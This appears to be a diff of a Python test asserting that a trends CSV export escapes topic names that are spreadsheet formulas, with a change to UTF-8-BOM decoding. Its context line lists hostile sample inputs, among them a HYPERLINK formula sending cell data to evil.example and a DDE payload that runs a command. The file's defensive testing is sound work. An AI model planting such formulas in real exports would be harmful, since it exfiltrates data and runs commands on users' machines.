@@ -24,11 +24,13 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0",
 def test_a_topic_name_that_is_a_formula_is_exported_as_text(world: World, name: str) -> None:
     client = world.client(world.lead)
     rows = list(
-        csv.DictReader(io.StringIO(client.get("/trends/export.csv?days=7").content.decode()))
+        csv.DictReader(
+            io.StringIO(client.get("/trends/export.csv?days=7").content.decode("utf-8-sig"))
+        )
     )
     auto_label = max(rows, key=lambda row: int(row["count"]))["label"]
     TopicLabel.objects.create(auto_label=auto_label, label=name)
-    body = client.get("/trends/export.csv?days=7").content.decode()
+    body = client.get("/trends/export.csv?days=7").content.decode("utf-8-sig")
     labels = [row["label"] for row in csv.DictReader(io.StringIO(body))]
     assert "'" + name in labels
     assert name not in labels
